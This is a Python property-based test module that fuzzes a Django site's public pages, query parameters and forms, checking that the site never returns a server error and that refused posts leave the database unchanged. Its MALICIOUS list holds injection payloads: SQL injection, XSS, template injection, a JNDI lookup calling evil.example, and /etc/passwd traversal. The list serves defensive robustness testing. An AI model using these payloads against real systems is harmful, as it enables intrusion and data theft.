"""Hostile input breaks nothing: random and malicious values in every query parameter of every
public page, and in every form a visitor, a partner contact or a trekker can post, answer
without a server error, and a submission the site refuses leaves the database as it was.

Property-based (Hypothesis), over what the site itself shows, so a new page, filter or form is
covered as soon as something links to it:

- the pages: every route of the URLconf that a crawl of the demo content (the public gate's,
  one or two pages per route and query) reaches anonymously, or that answers 200 anonymously
  without path parameters; each with one real address from the demo content;
- the query parameters: the names (and the values the site uses) of the ``<form method=get>``
  fields and of the links' query strings that lead to the route, plus junk names;
- the forms: every ``<form method=post>`` on those pages and on the pages the demo's partner
  contact and trekker reach from ``/mijn/`` (as the signed-in gate crawls them), with the
  CSRF token the page gave (so each post reaches the form's own checks) and every other
  field, hidden ones included, drawn: left out, the page's own value or hostile, or all the
  page's own values but one.

Each example runs in a savepoint that is rolled back, with the cache (rate limits) emptied and
the client's cookies put back afterwards, so examples do not depend on each other and a
failure shrinks to its smallest input. The demo is loaded once for the module, in a transaction
rolled back at its end. The examples are the same on every run (``derandomize``). The API under
``/api/v1/`` is left to ``tests/portaal/test_api_schema.py`` (Schemathesis, from its OpenAPI
document).
"""

import copy
import hashlib
import itertools
import re
import traceback
from collections import Counter
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlencode, urljoin, urlsplit

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.db import connection, transaction
from django.test import Client, override_settings
from django.urls import Resolver404, URLResolver, get_resolver, resolve
from django.urls.resolvers import RoutePattern
from hypothesis import HealthCheck, given, note
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from accounts.demo import DEMO_PASSWORD, PARTNERCONTACT_EMAIL, TREKKER
from tests.helpers import sign_in

from .quality import SKIPPED_PREFIXES, crawl, internal_links
from .test_every_page import crawl_public_pages
from .test_signed_in_pages import SIGNED_IN

pytestmark = pytest.mark.django_db

# Examples per public route and per form: a few for its junk names, more for each of its own.
EXAMPLES_PER_NAME = 2
MIN_EXAMPLES, MAX_EXAMPLES = 3, 20
PAGES_PER_KIND = 2  # crawled pages per route and set of query names
NOT_HERE = ("beheer/", "^media/", "api/v1/")  # the admin, files, the API (Schemathesis)
SIGNED_IN_ACCOUNTS = [PARTNERCONTACT_EMAIL, TREKKER]
MIN_ROUTES = 50
MIN_FORMS = 15

EXAMPLES = hypothesis_settings(
    deadline=None,
    derandomize=True,  # the same examples on every run, on every machine
    database=None,  # nothing written to .hypothesis/
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

# What attackers, scanners and unlucky typists send.
MALICIOUS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "%00",
    "\x0b\x1f\x7f\x85",  # control characters, which XML and the site's texts refuse
    "tab\tnew\nline\r",
    "\ufffe",
    "' OR '1'='1",
    "1; DROP TABLE werkplaats_user; --",
    "1' UNION SELECT NULL, NULL--",
    '"; SELECT pg_sleep(5); --',
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "</textarea><img src=x onerror=alert(1)>",
    "{{ 7|add:7 }}{% debug %}",
    "%s%s%s%n",
    "{0}{1}{name}",
    "%(naam)s",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "//evil.example/",
    "http://evil.example/",
    "-1",
    "0",
    "-0",
    "1.5",
    "1e309",
    "NaN",
    "-Infinity",
    "0x1F",
    "٣",  # an Arabic-Indic digit: int() reads it
    "-9223372036854775809",
    "9223372036854775808",
    "99999999999999999999999999999999",
    "0000-00-00",
    "9999-12-31",
    "0001-01-01",
    "10000-01-01",
    "-0001-01-01",
    "2024-02-30",
    "2024-13-01",
    "25:61",
    "9999-12-31T23:59:59",
    "true",
    "null",
    "[]",
    "{}",
    "on",
    "\u202egnp.exe",
    "\ufeff",
    "\u200b",
    "e\u0301",
    "🙂",
    "İ",
    "\uffff",
    "\U0010ffff",
    "x" * 10_000,
    "9" * 10_000,
    "-" + "9" * 4_300,  # past Python's limit for converting a string to an int
]
# What a well-meaning visitor types, per input type, so that some examples get through.
PLAUSIBLE = {
    "email": ["anna@example.nl", PARTNERCONTACT_EMAIL],
    "password": [DEMO_PASSWORD, "een-lang-wachtwoord-voor-tests"],
    "date": ["2026-12-01"],
    "time": ["10:00"],
    "datetime-local": ["2026-12-01T10:00"],
    "number": ["1", "3"],
    "url": ["https://example.nl/"],
    "tel": ["024 123 45 67"],
    "text": ["Anna de Boer"],
}
JUNK_NAMES = [
    "\x00",
    "\x1f",
    "x" * 300,
    "page[]",
    "__proto__",
    "format",
    "ordering",
    "next",
    "utm_source",
]
TOKEN = "csrfmiddlewaretoken"
PARAMETER = re.compile(r"<(?:\w+:)?(\w+)>")  # a path parameter of a route, and its name

_text = st.text(alphabet=st.characters(codec="utf-8"), max_size=40)  # surrogates cannot be sent
hostile = st.one_of(
    st.sampled_from(MALICIOUS),
    _text,
    st.builds(lambda before, after: f"{before}\x00{after}", _text, _text),
    st.builds(lambda char: char * 10_000, st.characters(codec="utf-8")),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.floats().map(repr),
    st.dates().map(str),
    st.datetimes().map(lambda moment: moment.isoformat(sep=" ")),
)
junk_name = st.one_of(st.sampled_from(JUNK_NAMES), _text)


def values_for(offered):
    """One or more values for a name: the site's own (an option, a plausible value) or hostile."""
    one = st.one_of(st.sampled_from(offered), hostile) if offered else hostile
    return st.one_of(one.map(lambda value: [value]), st.lists(one, min_size=2, max_size=3))


def best_guess(offered):
    """The value a visitor would most likely send: the page's own (the current value, the
    selected option), else the first plausible one."""
    return next((value for value in offered if value.strip()), "")


def one_bad_apple(names, bad):
    """The best guess for every name (so the form's later checks and the services run), and
    hostile values for ``bad``."""
    return st.fixed_dictionaries(
        {
            name: values_for(()) if name == bad else st.just([best_guess(offered)])
            for name, offered in names.items()
        }
    )


def data_for(names):
    """Values for ``names``: either each left out, the page's own or hostile, or all the
    page's own but one; and a junk name or two."""
    scattered = st.fixed_dictionaries(
        {}, optional={name: values_for(offered) for name, offered in names.items()}
    )
    known = scattered
    if names:
        one_bad = st.sampled_from(sorted(names)).flatmap(lambda bad: one_bad_apple(names, bad))
        known = st.one_of(scattered, one_bad)
    junk = st.dictionaries(junk_name, values_for(()), max_size=2)
    return st.builds(
        lambda junk, known: {**{k: v for k, v in junk.items() if k != TOKEN}, **known},
        junk,
        known,
    )


# --- What the pages offer --------------------------------------------------------------------


@dataclass
class Form:
    page: str  # where it was found
    method: str
    action: str
    enctype: str
    token: str = ""
    fields: dict = field(default_factory=dict)  # name → the values the page offers

    def offer(self, name, *values, first=False):
        """Values the page offers for ``name``; ``first``: what it has chosen already."""
        known = [value for value in values if value is not None]
        old = self.fields.get(name, [])
        self.fields[name] = list(dict.fromkeys([*known, *old] if first else [*old, *known]))


class _FormParser(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.page, self.forms = page, []
        self.form = self.select = self.textarea = None
        self.typed = ""

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            action = urljoin("http://testserver" + self.page, attrs.get("action") or self.page)
            self.form = Form(
                page=self.page,
                method=(attrs.get("method") or "get").lower(),
                action=action,
                enctype=attrs.get("enctype") or "application/x-www-form-urlencoded",
            )
            self.forms.append(self.form)
            return
        if self.form is None:
            return
        name = attrs.get("name")
        kind = (attrs.get("type") or "text").lower()
        if tag == "input" and name == TOKEN:
            self.form.token = attrs.get("value") or ""
        elif tag == "input" and name:
            default = "on" if kind in {"checkbox", "radio"} else None
            self.form.offer(name, attrs.get("value", default), *PLAUSIBLE.get(kind, ()))
        elif tag == "button" and name:
            self.form.offer(name, attrs.get("value", ""))
        elif tag == "select" and name:
            self.select = name
            self.form.offer(name)
        elif tag == "option" and self.select:
            self.form.offer(self.select, attrs.get("value"), first="selected" in attrs)
        elif tag == "textarea" and name:
            self.textarea, self.typed = name, ""

    def handle_endtag(self, tag):
        if tag == "form":
            self.form = None
        elif tag == "select":
            self.select = None
        elif tag == "textarea" and self.form is not None and self.textarea:
            # A browser drops the newline right after <textarea>.
            self.form.offer(self.textarea, self.typed.removeprefix("\n"), *PLAUSIBLE["text"])
            self.textarea = None

    def handle_data(self, data):
        if self.textarea:
            self.typed += data


def forms_on(crawled):
    parser = _FormParser(crawled.path)
    parser.feed(crawled.html)
    return parser.forms


def route_of(path):
    """The URLconf route a path resolves to (``publicaties/<slug:slug>/``), or None."""
    try:
        return resolve(urlsplit(path).path).route
    except Resolver404:
        return None


def all_routes(patterns=None, prefix=""):
    """Every route of the URLconf (but the admin, files and the API), joined as
    ``ResolverMatch.route`` joins them, with its pattern."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        route = str(entry.pattern)
        route = prefix + (route.removeprefix("^") if prefix else route)
        if isinstance(entry, URLResolver):
            yield from all_routes(entry.url_patterns, route)
        elif not route.startswith(NOT_HERE) and not ("/" + route).startswith(SKIPPED_PREFIXES):
            yield route, entry.pattern


def shared_segments(route, other):
    """How many leading segments two routes share."""
    pairs = zip(route.split("/"), other.split("/"), strict=False)
    return sum(1 for _ in itertools.takewhile(lambda pair: pair[0] == pair[1], pairs))


class Crawler:
    """A filter for the crawler that follows ``PAGES_PER_KIND`` links per route and set of
    query names, and keeps every link it was offered, followed or not, for ``fill``."""

    def __init__(self):
        self.seen, self.offered = Counter(), []

    def __call__(self, link):
        self.offered.append(link)
        kind = (route_of(link), frozenset(name for name, _ in parse_qsl(urlsplit(link).query)))
        self.seen[kind] += 1
        return self.seen[kind] <= PAGES_PER_KIND

    def fill(self, route):
        """Addresses for a route with path parameters, filled with the values that the links
        on the crawled pages have for parameters of the same names (``<slug:slug>``), those
        of the most similar route first."""
        names = set(PARAMETER.findall(route))
        found = {}
        for link in self.offered:
            try:
                match = resolve(urlsplit(link).path)
            except Resolver404:
                continue
            if set(match.kwargs) == names:
                path = "/" + PARAMETER.sub(lambda m, kwargs=match.kwargs: str(kwargs[m[1]]), route)
                found.setdefault(path, shared_segments(route, match.route))
        return sorted(found, key=found.get, reverse=True)


@dataclass
class Page:
    route: str
    path: str
    names: dict = field(default_factory=dict)  # query name → the values the site uses


@dataclass
class Site:
    visitor: Client
    pages: list  # one Page per public route
    forms: list  # the forms an anonymous visitor can post
    not_reached: list  # routes of the URLconf no anonymous visitor reaches


def post_forms(crawled_pages):
    """Each distinct ``<form method=post>`` (by where it posts and its field names) once."""
    found = {}
    for crawled in crawled_pages:
        for form in forms_on(crawled):
            action = urlsplit(form.action)
            if form.method != "post" or action.netloc != "testserver":
                continue
            if action.path.startswith(SKIPPED_PREFIXES) or route_of(action.path) is None:
                continue
            found.setdefault((route_of(action.path), frozenset(form.fields)), form)
    return list(found.values())


def public_pages(crawled_pages):
    """One page per public route, with the query names the site sends there."""
    pages = {}
    for crawled in crawled_pages:
        route = route_of(crawled.path)
        if crawled.status == 200 and route is not None and not route.startswith(NOT_HERE):
            pages.setdefault(route, Page(route, urlsplit(crawled.path).path))
    for crawled in crawled_pages:  # where the forms and links of every page lead, and how
        sent = [(crawled.path, parse_qsl(urlsplit(crawled.path).query, keep_blank_values=True))]
        for link in internal_links(crawled.html, crawled.path) if crawled.html else ():
            sent.append((link, parse_qsl(urlsplit(link).query, keep_blank_values=True)))
        for form in forms_on(crawled) if crawled.html else ():
            if form.method == "get":
                sent.append((form.action, [(n, v) for n, vs in form.fields.items() for v in vs]))
                sent.extend((form.action, [(name, "")]) for name in form.fields)
        for path, pairs in sent:
            page = pages.get(route_of(path))
            for name, value in pairs if page else ():
                page.names.setdefault(name, {})[value] = None  # ordered, once each
    for page in pages.values():
        page.names = {name: list(values) for name, values in page.names.items()}
    return list(pages.values())


def signed_in(email):
    """A client signed in as ``email`` (CSRF checked, as in a browser), and the forms on the
    pages of one's own reached from /mijn/."""
    client = sign_in(Client(), email, DEMO_PASSWORD)
    client.handler.enforce_csrf_checks = True
    crawler = Crawler()
    pages = crawl(
        client, start="/mijn/", within=lambda link: bool(SIGNED_IN.match(link)) and crawler(link)
    )
    return client, post_forms(pages)


def routes_not_linked(client, crawled, crawler):
    """The routes the crawl did not reach that answer an anonymous visitor: those without path
    parameters (the account pages, say) and those whose parameters the demo content fills
    (a publicatie's reageren page, which the first publicaties crawled do not have)."""
    reached = {route_of(crawled_page.path) for crawled_page in crawled}
    found = []
    for route, pattern in all_routes():
        if route in reached or not isinstance(pattern, RoutePattern):
            continue
        for path in crawler.fill(route) if pattern.converters else ["/" + route]:
            page = crawl(client, start=path, within=lambda link: False)[0]
            if page.status == 200:
                found.append(page)
                break
            if page.status == 302:  # behind a login: so are the others
                break
    return found


@pytest.fixture(scope="module")
def site(django_db_setup, django_db_blocker):
    """The demo content with its accounts, loaded once for the module in a transaction rolled
    back at its end, and what an anonymous visitor finds on it."""
    with django_db_blocker.unblock(), transaction.atomic():
        with override_settings(DEBUG=True):  # the demo accounts, as load_demo_with_accounts
            call_command("load_demo", verbosity=0)
        visitor = Client(enforce_csrf_checks=True)
        crawler = Crawler()
        crawled = crawl_public_pages(visitor, within=crawler)
        crawled += routes_not_linked(visitor, crawled, crawler)
        pages = public_pages(crawled)
        answered = {page.route for page in pages}
        not_reached = [route for route, _ in all_routes() if route not in answered]
        yield Site(
            visitor=visitor,
            pages=pages,
            forms=post_forms(crawled),
            not_reached=not_reached,
        )
        transaction.set_rollback(True)


# --- Checking one example --------------------------------------------------------------------


def database_fingerprint():
    """A digest of every row of every table, per table."""
    tables = connection.introspection.table_names()
    quote = connection.ops.quote_name
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":  # one round trip instead of one per table
            cursor.execute(
                "SELECT "
                + ", ".join(
                    f"(SELECT md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) "
                    f"FROM {quote(table)} t)"
                    for table in tables
                )
            )
            return dict(zip(tables, cursor.fetchone(), strict=True))
        digests = {}
        for table in tables:
            cursor.execute(f"SELECT * FROM {quote(table)}")
            rows = sorted(repr(row) for row in cursor.fetchall())
            digests[table] = hashlib.md5("|".join(rows).encode()).hexdigest()
        return digests


@contextmanager
def leaves_nothing_behind(client):
    """Whatever one example does is undone: its writes are rolled back, and the cache (rate
    limits count there) and the client's cookies (a session, the CSRF token) are as before."""
    cookies = copy.deepcopy(client.cookies)
    cache.clear()
    try:
        with transaction.atomic():
            yield
            transaction.set_rollback(True)
    finally:
        client.cookies = cookies


def refused(response):
    """The site said no: an error status, or the form shown again with its problems."""
    return response.status_code >= 400 or b'class="error-summary"' in response.content


def assert_unchanged(before, what):
    after = database_fingerprint()
    changed = sorted(table for table in before if after.get(table) != before[table])
    assert not changed, f"{what} changed {changed}"


def examples_for(target):
    names = target.names if isinstance(target, Page) else target.fields
    return min(MIN_EXAMPLES + EXAMPLES_PER_NAME * len(names), MAX_EXAMPLES)


def reached_the_view(response):
    """The CSRF check let the post through (or the view needs none), or it was too large."""
    csrf_exempt = getattr(response.resolver_match.func, "csrf_exempt", False)
    passed = getattr(response.wsgi_request, "csrf_processing_done", False)
    return csrf_exempt or passed or response.status_code == 413


def check_query_parameters(client, page):
    @hypothesis_settings(EXAMPLES, max_examples=examples_for(page))
    @given(query=data_for(page.names))
    def answers(query):
        note(f"GET {page.path} {query!r}"[:2000])
        with leaves_nothing_behind(client):
            before = database_fingerprint()
            response = client.get(page.path, query)
            assert response.status_code < 500, response.status_code
            assert_unchanged(before, f"GET {page.path} answered {response.status_code} and")

    answers()


def check_form(client, form):
    action = urlsplit(form.action)
    path = action.path + (f"?{action.query}" if action.query else "")

    @hypothesis_settings(EXAMPLES, max_examples=examples_for(form))
    @given(data=data_for(form.fields))
    def answers(data):
        note(f"POST {path} (form on {form.page}) {data!r}"[:2000])
        data = {**data, TOKEN: [form.token]}
        with leaves_nothing_behind(client):
            before = database_fingerprint()
            if form.enctype == "multipart/form-data":
                response = client.post(path, data)
            else:
                body = urlencode(data, doseq=True)
                response = client.post(path, body, content_type=form.enctype)
            assert response.status_code < 500, response.status_code
            assert reached_the_view(response), f"POST {path}: {response.status_code}"
            if refused(response):  # else accepted: a redirect, or a page saying it is done
                assert_unchanged(before, f"POST {path} refused ({response.status_code}) but")

    answers()


def check_each(targets, check, client):
    """Every target is checked; the first failure is raised with its traceback, and the
    others are listed with it."""
    failures = []
    for target in targets:
        try:
            check(client, target)
        except Exception as error:  # reported below, with the others
            failures.append(error)
    if failures:
        first = failures[0]
        for other in failures[1:]:
            first.add_note("".join(traceback.format_exception_only(other)))
        first.add_note(f"{len(failures)} of {len(targets)} failed")
        raise first


# --- The tests ---------------------------------------------------------------------------------


def test_hostile_query_parameters_never_break_a_public_page(site):
    assert len(site.pages) >= MIN_ROUTES, [page.route for page in site.pages]
    # Every filter of a list page was found in its filter form.
    for page in site.pages:
        view_class = getattr(resolve(page.path).func, "view_class", None)
        filterset = getattr(view_class, "filterset_class", None)
        if filterset is not None:
            assert set(filterset.base_filters) <= set(page.names), page.route
    print(
        f"\n{len(site.pages)} public routes, {sum(map(examples_for, site.pages))} examples, "
        f"{sum(len(page.names) for page in site.pages)} query names; "
        f"not reached anonymously: {site.not_reached}"
    )
    check_each(site.pages, check_query_parameters, site.visitor)


def test_hostile_values_in_a_visitors_forms_never_break_the_site(site):
    assert len(site.forms) >= MIN_FORMS, [form.action for form in site.forms]
    print(f"\n{len(site.forms)} public forms, {sum(map(examples_for, site.forms))} examples")
    check_each(site.forms, check_form, site.visitor)


@pytest.mark.parametrize("email", SIGNED_IN_ACCOUNTS)
def test_hostile_values_in_the_forms_of_a_signed_in_account_never_break_the_site(site, email):
    client, forms = signed_in(email)
    assert forms, email
    print(f"\n{email}: {len(forms)} forms, {sum(map(examples_for, forms))} examples")
    check_each(forms, check_form, client)
